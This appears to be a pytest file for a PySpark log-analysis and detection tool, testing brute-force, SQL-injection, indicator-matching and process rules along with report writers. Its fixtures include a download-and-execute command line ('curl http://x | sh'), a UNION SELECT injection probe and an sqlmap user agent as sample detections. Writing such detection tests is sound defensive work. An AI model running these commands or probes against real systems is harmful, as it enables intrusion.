from __future__ import annotations

import datetime
import json
import os

from pyspark.sql import functions as F

from tracelight.operators.enrich import ioc_candidates, ioc_findings, ioc_matches
from tracelight.plans.analysis import Evidence, Settings, analyse
from tracelight.rules.catalog import BUILTIN
from tracelight.schema import FINDING, HTTP_EVENT, conform
from tracelight.sinks import writers
from tracelight.sources.web import parse_access
from tracelight.streaming import jobs

BASE = datetime.datetime(2026, 5, 15, 8, 0, 0)


def _line(seconds, ip="203.0.113.9", method="POST", path="/login", status=401, agent="curl"):
    when = (BASE + datetime.timedelta(seconds=seconds)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{ip} - - [{when}] "{method} {path} HTTP/1.1" {status} 12 "-" "{agent}"'


def _run(query):
    query.processAllAvailable()
    query.stop()


def _drop(folder, name, texts):
    (folder / name).write_text("\n".join(texts) + "\n")


def test_stream_rules_and_tumbling_buckets(spark, tmp_path):
    source = tmp_path / "in"
    source.mkdir()
    _drop(source, "a.log", [_line(i) for i in range(3)] + [_line(400)])
    hits = jobs.stream_rule_hits(jobs.line_stream(spark, str(source)), BUILTIN)
    writer = hits.writeStream.format("memory").queryName("hits").option("checkpointLocation", str(tmp_path / "c1"))
    _run(writer.start())
    assert spark.table("hits").groupBy("rule_id").count().collect() == [("WEB-BRUTE-001", 4)]
    split = jobs.LateSplitter(str(tmp_path / "out"), ["rule_id", "remote_ip"])
    start = lambda: hits.writeStream.foreachBatch(split).option("checkpointLocation", str(tmp_path / "c2")).start()
    _run(start())
    _drop(source, "b.log", [_line(5000), _line(1)])  # the second is over ten minutes late only once 5000 has been seen
    _run(start())
    _drop(source, "c.log", [_line(2), _line(4900)])
    _run(start())
    bucket = int(BASE.replace(tzinfo=datetime.timezone.utc).timestamp()) // 300
    assert {r.bucket - bucket: r.match_count for r in split.totals(spark).collect()} == {0: 4, 1: 1, 16: 2}
    assert split.late(spark).count() == 1
    newest = [r[0] for i in range(3) for r in spark.read.parquet(str(tmp_path / "out" / "newest" / f"batch_id={i}")).collect()]
    assert newest == sorted(newest)  # each batch knows the newest of all before it
    for upto in (1, 2):
        split.compact(spark, upto)
        assert split.late(spark).count() == 1
    agg = jobs.stream_tumbling(hits, ["rule_id"])
    _run(agg.writeStream.format("memory").queryName("buckets").outputMode("complete").option("checkpointLocation", str(tmp_path / "c3")).start())
    assert sum(r.match_count for r in spark.table("buckets").collect()) == 8


def test_stream_brute_force_in_any_order(spark, tmp_path):
    """Attempts arrive shuffled over files; alerts are those of the batch operator, late attempts are given out."""
    import random

    from tracelight.functions.times import millis
    from tracelight.operators.brute_force import brute_force

    random.seed(11)
    source, schema = tmp_path / "in", "source string, event_time timestamp, failed boolean"
    frame = lambda rows: spark.createDataFrame([(s, BASE + datetime.timedelta(milliseconds=t), f) for s, t, f in rows], schema)
    rows = [(f"s{random.randint(0, 9)}", random.randint(0, 1_500_000), random.random() < 0.8) for _ in range(400)]
    rows += [("one", 1000, True)] * 9 + [("one", 1000, False), ("none", 5, False)]  # many at one instant
    random.shuffle(rows)
    jobs.use_state_store(spark)
    frame(rows).repartition(7).write.parquet(str(source))
    stream = jobs.stream_brute_force(spark.readStream.schema(schema).option("maxFilesPerTrigger", 3).parquet(str(source)), delay="30 minutes")
    start = lambda: stream.writeStream.format("memory").queryName("alerts").outputMode("append").option("checkpointLocation", str(tmp_path / "c")).start()
    query = start()
    query.processAllAvailable()
    frame([("end", 9_000_000, True)]).coalesce(1).write.mode("append").parquet(str(source))
    query.processAllAvailable()
    frame([("s1", 50, True), ("end", 9_000_001, False)]).coalesce(1).write.mode("append").parquet(str(source))  # the first is late by now
    query.processAllAvailable()
    query.stop()
    got = {}
    for r in spark.table("alerts").collect():
        got.setdefault(r.kind, {}).setdefault(r.source, (r.first_failure_ms, r.at_ms))
    base = int(BASE.replace(tzinfo=datetime.timezone.utc).timestamp() * 1000)
    batch = brute_force(frame(rows).select("source", millis(F.col("event_time")).alias("at"), "failed")).collect()
    assert got["triggered"] == {r.source: (r.first_failure_at, r.trigger_at) for r in batch} and len(got["triggered"]) > 5
    assert set(got["followed_by_success"]) == {r.source for r in batch if r.later_success}
    assert got["late"] == {"s1": (-1, base + 50)}


def _indicators(spark):
    rows = [(1, "ip", "::ffff:1.2.3.4"), (2, "cidr", "10.1.0.0/16"), (3, "domain", "evil.example"), (4, "url_path", "/admin"), (5, "user_agent", "SqlMap"), (6, "user_agent", "x1")]
    return spark.createDataFrame([(*r, "s", "high", "", "") for r in rows], "seq long, indicator_type string, value string, source string, confidence string, tags string, description string")


def _events(spark):
    rows = [("1.2.3.4", "a.evil.example:80", "/administrator", "sqlmap/1"), ("10.1.9.9", "notevil.example", "/admin/x", "y x1"), ("11.1.9.9", "evil.example.", "/Admin", None)]
    return conform(spark.createDataFrame([(f"2026-05-15T08:00:0{i}Z", "a.log", i, *r) for i, r in enumerate(rows, 1)],
                                         "timestamp string, source_file string, line_number long, remote_ip string, host string, uri_path string, user_agent string"), HTTP_EVENT)


def test_indicator_matching_batch_and_stream(spark, tmp_path):
    want = {(1, 1), (1, 3), (1, 5), (2, 2), (2, 4), (2, 6), (3, 3), (3, 4)}
    matches = ioc_matches(ioc_candidates(_events(spark)), _indicators(spark))
    assert {(r.evidence_line, r.seq) for r in matches.collect()} == want
    findings = ioc_findings(matches).orderBy("finding_id").collect()
    assert [f.finding_id for f in findings][:2] == ["IOC-000001", "IOC-000002"] and {f.score for f in findings} == {35}
    _events(spark).write.parquet(str(tmp_path / "in"))
    stream = jobs.stream_ioc_hits(spark.readStream.schema(HTTP_EVENT).parquet(str(tmp_path / "in")), _indicators(spark))
    _run(stream.writeStream.format("memory").queryName("ioc").option("checkpointLocation", str(tmp_path / "c")).start())
    assert {(r.line_number, r.seq) for r in spark.table("ioc").collect()} == want


def test_whole_analysis(spark, lines):
    texts = [_line(i) for i in range(6)] + [_line(30, method="GET", path="/search?q=1+UNION+SELECT+2", status=200)]
    http = parse_access(lines(texts, "a.log")).events
    processes = spark.createDataFrame([("9", "bash", "/bin/sh -c curl http://x | sh java", (BASE + datetime.timedelta(seconds=60)).strftime("%Y-%m-%dT%H:%M:%SZ"))],
                                      "pid string, name string, command_line string, started_at string")
    done = analyse(Evidence(http=http, inventories={"processes": processes}, indicators=_indicators(spark)), Settings())
    got = {r.rule_id: r for r in done.findings.collect()}
    assert {"WEB-BRUTE-001", "WEB-SQLI-001", "HOST-PROC-001"} <= set(got)
    assert got["WEB-SQLI-001"].evidence_chain_level == "L4" and got["WEB-SQLI-001"].boost == 25  # same source 5, process 20
    assert got["HOST-PROC-001"].boost == 10
    chain = done.chains.head()
    assert (chain.findings, chain.chain_id) == (3, "CHAIN-000001")
    assert done.timeline.count() == done.findings.count() and done.sources.head().remote_ip == "203.0.113.9"
    assert done.relations().count() == 3


def test_sinks(spark, tmp_path):
    rows = conform(spark.createDataFrame([(f"F-{i}", "R", "name", "advice", "cat", "access_log", "high" if i else "low", "a\\b.log", i, "=x") for i in range(3)],
                                         "finding_id string, rule_id string, rule_name string, recommendation string, category string, source_type string, severity string, source_file string, line_number long, evidence_summary string"), FINDING)
    writers.write_sarif(rows, str(tmp_path / "s"))
    parts = sorted(p for p in os.listdir(tmp_path / "s") if p.startswith("part-"))
    doc = json.loads("".join((tmp_path / "s" / p).read_text() for p in parts))
    run = doc["runs"][0]
    assert doc["version"] == "2.1.0" and len(run["tool"]["driver"]["rules"]) == 1 and [r["level"] for r in run["results"]] == ["note", "error", "error"]
    assert run["results"][1]["locations"][0]["physicalLocation"] == {"artifactLocation": {"uri": "a/b.log"}, "region": {"startLine": 1}}
    writers.write_csv(rows, str(tmp_path / "c"))
    back = spark.read.option("header", True).csv(str(tmp_path / "c"))
    assert {r.evidence_summary for r in back.collect()} == {"'=x"}
    writers.write_jsonl(rows, str(tmp_path / "j"))
    assert spark.read.json(str(tmp_path / "j")).count() == 3
    assert writers.evidence_index(spark, str(tmp_path / "j")).where("path like '%.json'").count() >= 1
    from tracelight.rules.model import load_rules

    table, sums = writers.rule_manifest(spark, load_rules())
    assert table.count() == 57 and sums.head().rules == 57
    assert writers.rule_counts(table).agg(F.sum("rules")).head()[0] == 57
